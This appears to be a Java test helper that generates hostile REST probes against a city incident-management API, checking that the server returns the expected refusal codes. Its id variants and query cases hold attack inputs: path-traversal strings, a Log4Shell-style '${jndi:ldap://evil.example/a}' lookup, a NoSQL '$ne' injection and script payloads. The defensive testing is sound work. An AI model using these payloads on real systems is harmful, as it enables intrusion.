package city.beacon.infra.hostile;

import city.beacon.infra.support.Caller;
import city.beacon.infra.support.RawHttp;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;

import static city.beacon.infra.hostile.JsonMutations.SCRIPT;
import static city.beacon.infra.hostile.JsonMutations.bytes;

/**
 * Generates the hostile REST requests, deterministically from a seed: refused callers, unknown and path-traversal
 * ids, wrong methods and content types, broken bodies field by field, oversized bodies, hostile query parameters.
 */
final class RestProbes {
    /** Ids as they appear in the path (already URL-encoded where the attack is the encoding). */
    static final Map<String, String> HOSTILE_IDS = idVariants();
    private final Random random;
    private final JsonMutations mutations;
    private final List<Probe> probes = new ArrayList<>();
    private int rotation;

    RestProbes(long seed) {
        this.random = new Random(seed);
        this.mutations = new JsonMutations(random);
    }

    List<Probe> generate(List<Endpoint> endpoints, int fuzzPerBody) {
        for (var endpoint : endpoints) {
            callers(endpoint);
            ids(endpoint);
            methods(endpoint, endpoints);
            if (endpoint.validBody() != null) {
                contentTypes(endpoint);
                bodies(endpoint, fuzzPerBody);
                foreignOrigin(endpoint);
            }
        }
        return probes;
    }

    private void callers(Endpoint endpoint) {
        for (var caller : Caller.values()) {
            if (!endpoint.allowed().contains(caller)) {
                // Headers over the server's limit may be refused before authentication, as a 400, and the server
                // closes the connection then: a client still sending its body may see it close before the 400
                // (seen once on POST .../location in a full run), as with the oversized bodies below.
                var expected = caller == Caller.HUGE_KEY ? Set.of(400, 401, 403, RawHttp.BROKEN) : Set.of(401, 403);
                add(endpoint, "caller:" + caller.name(), endpoint.path(), caller, bodyOrNull(endpoint), expected, null);
            }
        }
    }

    private void ids(Endpoint endpoint) {
        for (var variable : endpoint.variables().keySet()) {
            for (var id : HOSTILE_IDS.entrySet()) {
                var expected = endpoint.apiKeyOnly() || "code".equals(variable)
                        ? Set.of(400, 401, 403, 404) : Set.of(400, 404);
                add(endpoint, variable + ":" + id.getKey(), endpoint.path(Map.of(variable, id.getValue())),
                        allowedCaller(endpoint), bodyOrNull(endpoint), expected, null);
            }
        }
    }

    private void methods(Endpoint endpoint, List<Endpoint> all) {
        var used = all.stream().filter(other -> other.template().equals(endpoint.template()))
                .map(Endpoint::method).toList();
        for (var method : List.of("PUT", "DELETE", "PATCH", "POST", "GET")) {
            if (!used.contains(method) && !otherEndpointServes(all, method, endpoint.path())) {
                // An operator (or the endpoint's machine client), so that no role rule refuses it first.
                var caller = endpoint.allowed().contains(Caller.OPERATOR) ? Caller.OPERATOR : allowedCaller(endpoint);
                probes.add(new Probe(endpoint.name(), "method:" + method, method, endpoint.path(), caller.headers(),
                        null, Set.of(405), null));
            }
        }
    }

    /** e.g. GET /api/sensors/readings is GET /api/sensors/{id} with the id "readings": not a wrong method. */
    private static boolean otherEndpointServes(List<Endpoint> all, String method, String path) {
        return all.stream().anyMatch(other -> other.method().equals(method)
                && path.matches(other.template().replaceAll("\\{[^}]+}", "[^/]+")));
    }

    private void contentTypes(Endpoint endpoint) {
        byte[] body = bytes(endpoint.validBody());
        for (var type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x")) {
            addRaw(endpoint, "content-type:" + type.split(";")[0], endpoint.path(),
                    headers(allowedCaller(endpoint), type), body, Set.of(415), null);
        }
        addRaw(endpoint, "content-type:missing", endpoint.path(), headers(allowedCaller(endpoint), null), body,
                Set.of(415), null);
        addRaw(endpoint, "content-type:unknown-charset", endpoint.path(),
                headers(allowedCaller(endpoint), "application/json; charset=klingon"), body, Set.of(400, 415), null);
    }

    private void bodies(Endpoint endpoint, int fuzz) {
        var valid = endpoint.validBody();
        for (var field : endpoint.fields()) {
            for (var mutation : mutations.ofField(valid, field)) {
                var expected = mutation.kind().endsWith(":huge") ? Set.of(400, 413) : Set.of(400);
                add(endpoint, mutation.kind(), endpoint.path(), allowedCaller(endpoint), mutation.body(), expected,
                        mutation.field());
            }
        }
        String first = valid.fieldNames().next();
        for (var mutation : mutations.ofBody(valid, first)) {
            boolean optional = endpoint.template().endsWith("/resolve");   // its body may be left out
            if (optional && (mutation.kind().equals("json:empty-body") || mutation.kind().equals("json:null"))) {
                continue;
            }
            var expected = mutation.kind().endsWith("100000") ? Set.of(400, 413) : Set.of(400);
            add(endpoint, mutation.kind(), endpoint.path(), allowedCaller(endpoint), mutation.body(), expected,
                    mutation.field());
        }
        for (int i = 0; i < fuzz; i++) {
            var mutation = mutations.truncatedWithNoise(valid);
            add(endpoint, mutation.kind(), endpoint.path(), allowedCaller(endpoint), mutation.body(), Set.of(400), null);
        }
        String text = endpoint.fields().stream().filter(f -> f.type() == Field.Type.TEXT).map(Field::path)
                .findFirst().orElse(null);
        if (text != null) {
            add(endpoint, "body:300KB", endpoint.path(), allowedCaller(endpoint),
                    JsonMutations.huge(valid, text, 300_000), Set.of(400, 413), text);
            add(endpoint, "body:2MB", endpoint.path(), allowedCaller(endpoint),
                    JsonMutations.huge(valid, text, 2_000_000), Set.of(413), null);
        }
        if (endpoint.template().equals("/api/incidents") || endpoint.template().endsWith("/notes")) {
            // Refused from its Content-Length with "Connection: close": a client still sending 12 MB may see the
            // connection closed before it reads the 413 (one that sends Expect: 100-continue always reads it).
            add(endpoint, "body:12MB", endpoint.path(), allowedCaller(endpoint),
                    JsonMutations.huge(valid, text, 12_000_000), Set.of(413, RawHttp.BROKEN), null);
        }
    }

    /** A browser tricked by another site: Basic credentials cached, but the request comes with a foreign Origin. */
    private void foreignOrigin(Endpoint endpoint) {
        if (endpoint.apiKeyOnly()) {
            return;
        }
        for (var origin : Map.of("foreign", "http://evil.example", "null", "null",
                "malformed", "http://[::1").entrySet()) {
            var headers = headers(allowedCaller(endpoint), "application/json");
            headers.put("Origin", origin.getValue());
            addRaw(endpoint, "origin:" + origin.getKey(), endpoint.path(), headers, bytes(endpoint.validBody()),
                    Set.of(403), null);
        }
    }

    /**
     * Hostile query parameters of the GET endpoints that take any; each case: expected field, then name/value pairs.
     * A field marked "~" is a free filter: a hostile value may also find nothing (200), but never a 5xx.
     */
    List<Probe> queries(List<Endpoint> endpoints) {
        var cases = new LinkedHashMap<String, List<String[]>>();
        cases.put("/api/incidents", List.of(
                q("status", "status", "FOO"), q("status", "status", SCRIPT), q("type", "type", "gas_leak"),
                q("severity", "severity", "4"), q("bbox", "bbox", "1,2,3"), q("bbox", "bbox", "a,b,c,d"),
                q("bbox", "bbox", "91,0,92,1"), q("bbox", "bbox", "0,-181,1,0"), q("bbox", "bbox", "NaN,NaN,NaN,NaN"),
                q("bbox", "bbox", "1,2,3,4,5"), q("bbox", "bbox", "1".repeat(5000)), q("bbox", "bbox", "Infinity,0,1,1"),
                q("drills", "drills", "maybe"), q("drills", "drills", SCRIPT)));
        cases.put("/api/incidents/search", List.of(
                q("from", "from", "2026-13-45", "to", "2026-11-28"), q("to", "from", "2026-11-01"),
                q("from", "to", "2026-11-01"), q("to", "from", "2026-11-28", "to", "2026-11-01"),
                q("to", "from", "2023-01-01", "to", "2026-01-01"), q("from", "from", SCRIPT, "to", "2026-11-28"),
                q("type", "type", "FOO", "number", "1"), q("from", "from", "2026-11-01T00:00:00Z", "to", "2026-11-02")));
        cases.put("/api/kpis", List.of(
                q("from"), q("to", "from", "2026-11-01T00:00:00Z"),
                q("from", "from", "yesterday", "to", "2026-11-02T00:00:00Z"),
                q("to", "from", "2026-11-02T00:00:00Z", "to", "2026-11-01T00:00:00Z"),
                q("to", "from", "2020-01-01T00:00:00Z", "to", "2026-01-01T00:00:00Z"),
                q("from", "from", SCRIPT, "to", "2026-11-02T00:00:00Z"),
                q("to", "from", "-999999999-01-01T00:00:00Z", "to", "+999999999-12-31T23:59:59Z")));
        cases.put("/api/tasks", List.of(q("department", "department", SCRIPT), q("department", "department", "NOWHERE"),
                q("department", "department", "x".repeat(3000)), q("status", "status", "DONE"),
                q("status", "status", SCRIPT)));
        cases.put("/api/units", List.of(q("department", "department", SCRIPT),
                q("department", "department", "NOWHERE"), q("department", "department", "../FIRE")));
        String now = java.time.Instant.now().toString();
        String day = java.time.Instant.now().minus(java.time.Duration.ofDays(1)).toString();
        var instants = List.of("yesterday", "2026-13-45T00:00:00Z", "2026-12-02", SCRIPT, "1".repeat(5000),
                "1969-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "2999-01-01T00:00:00Z",
                "+999999999-12-31T23:59:59Z", " ");
        var at = new ArrayList<String[]>();
        var range = new ArrayList<String[]>();
        var optionalRange = new ArrayList<String[]>();
        for (var value : instants) {
            at.add(q("at", "at", value));
            range.add(q("from", "from", value, "to", now));
            range.add(q("to", "from", day, "to", value));
            if (!value.isBlank()) {
                optionalRange.add(q("from", "from", value));
                optionalRange.add(q("to", "to", value));
            }
        }
        at.add(q("at"));
        range.add(q("from", "to", now));
        range.add(q("to", "from", day));
        range.add(q("from", "from", now, "to", day));
        optionalRange.add(q("from", "from", now, "to", day));
        var paging = List.of(q("limit", "limit", "0"), q("limit", "limit", "1001"), q("limit", "limit", "abc"),
                q("limit", "limit", "9".repeat(30)), q("after", "after", "-1"), q("after", "after", SCRIPT));
        var board = new ArrayList<>(at);
        board.addAll(List.of(q("status", "at", now, "status", "FOO"), q("type", "at", now, "type", SCRIPT),
                q("severity", "at", now, "severity", "4"), q("bbox", "at", now, "bbox", "1,2,3"),
                q("bbox", "at", now, "bbox", "NaN,NaN,NaN,NaN"), q("drills", "at", now, "drills", "maybe")));
        cases.put("/api/audit/board", board);
        var events = new ArrayList<>(range);
        events.add(q("to", "from", "2020-01-01T00:00:00Z", "to", now));
        paging.forEach(p -> events.add(withPairs(p, "from", day, "to", now)));
        // Free filters (docs/audit.md): a value no event carries finds nothing (200) or is refused naming it.
        for (var filter : List.of("actor", "department", "type")) {
            for (var value : List.of(SCRIPT, "x".repeat(5000), "../../admin", "{\"$ne\":null}",
                    "${jndi:ldap://evil.example/a}")) {
                events.add(q("~" + filter, "from", day, "to", now, filter, value));
            }
        }
        cases.put("/api/audit/events", events);
        var incidentEvents = new ArrayList<>(optionalRange);
        incidentEvents.addAll(paging);
        cases.put("/api/audit/incidents/{id}/events", incidentEvents);
        cases.put("/api/audit/incidents/{id}", at);
        cases.put("/api/audit/incidents/{id}/diff", range);
        cases.put("/api/audit/incidents/{id}/export", List.of(q("format", "format", "pdf"),
                q("format", "format", SCRIPT), q("format", "format", "x".repeat(5000)), q("format", "format", "../csv")));
        cases.put("/api/audit/incidents/{id}/report", List.of(q("format", "format", "pdf"),
                q("format", "format", SCRIPT), q("format", "format", "x".repeat(5000)), q("format", "format", "../html")));
        var out = new ArrayList<Probe>();
        for (var endpoint : endpoints) {
            var list = cases.get(endpoint.template());
            if (list == null || endpoint.isWrite()) {
                continue;
            }
            // Auditors' endpoints refuse everyone else before reading a parameter.
            boolean audit = !endpoint.allowed().contains(Caller.OPERATOR);
            for (String[] query : list) {
                var path = new StringBuilder(endpoint.bare());
                var shown = new StringBuilder();
                for (int i = 1; i < query.length; i += 2) {
                    path.append(i == 1 ? '?' : '&').append(query[i]).append('=').append(encode(query[i + 1]));
                    shown.append(i == 1 ? "" : "&").append(query[i]).append('=').append(abbreviate(query[i + 1]));
                }
                for (var caller : List.of(Caller.OPERATOR, Caller.AUDITOR, Caller.LIAISON_FIRE, Caller.ADMIN)) {
                    if (caller == Caller.ADMIN && !audit) {
                        continue;
                    }
                    boolean refused = audit && !endpoint.allowed().contains(caller);
                    boolean filter = query[0].startsWith("~");
                    out.add(new Probe(endpoint.name(), "query:" + (shown.isEmpty() ? "none" : shown), "GET",
                            path.toString(), caller.headers(), null,
                            refused ? Set.of(403) : filter ? Set.of(200, 400) : Set.of(400),
                            refused ? null : query[0].replace("~", "")));
                }
            }
        }
        return out;
    }

    private static String[] q(String... fieldThenPairs) {
        return fieldThenPairs;
    }

    private static String[] withPairs(String[] query, String... pairs) {
        var all = java.util.Arrays.copyOf(query, query.length + pairs.length);
        System.arraycopy(pairs, 0, all, query.length, pairs.length);
        return all;
    }

    private static String abbreviate(String value) {
        return value.length() > 40 ? value.substring(0, 12) + "…(" + value.length() + " chars)" : value;
    }

    private Caller allowedCaller(Endpoint endpoint) {
        var allowed = endpoint.allowed().stream().filter(c -> c != Caller.KEY_AND_USER).toList();
        return allowed.get(rotation++ % allowed.size());
    }

    private static byte[] bodyOrNull(Endpoint endpoint) {
        return endpoint.validBody() == null ? null : bytes(endpoint.validBody());
    }

    private void add(Endpoint endpoint, String kind, String path, Caller caller, byte[] body, Set<Integer> expected,
                     String field) {
        addRaw(endpoint, kind, path, headers(caller, body == null ? null : "application/json"), body, expected, field);
    }

    private void addRaw(Endpoint endpoint, String kind, String path, Map<String, String> headers, byte[] body,
                        Set<Integer> expected, String field) {
        probes.add(new Probe(endpoint.name(), kind, endpoint.method(), path, headers, body, expected, field));
    }

    static Map<String, String> headers(Caller caller, String contentType) {
        var headers = new LinkedHashMap<>(caller.headers());
        if (contentType != null) {
            headers.put("Content-Type", contentType);
        }
        return headers;
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static Map<String, String> idVariants() {
        var ids = new LinkedHashMap<String, String>();
        ids.put("unknown-uuid", "00000000-0000-0000-0000-000000000000");
        ids.put("dotdot", "..");
        ids.put("encoded-dotdot", "%2e%2e");
        ids.put("encoded-dotdot-slash", "%2e%2e%2f%2e%2e%2fapi%2fme");
        ids.put("double-encoded-dotdot", "%252e%252e%252f");
        ids.put("nul", "%00");
        ids.put("encoded-slash", "a%2Fb");
        ids.put("backslash", "..%5c..%5c");
        ids.put("semicolon", "x;jsessionid=1");
        ids.put("script", encode(SCRIPT));
        ids.put("long", "a".repeat(5_000));
        ids.put("unicode", encode("事件-ünïcödé"));
        ids.put("space", "%20");
        ids.put("dollar-brace", encode("${jndi:ldap://evil.example/a}"));
        return ids;
    }
}
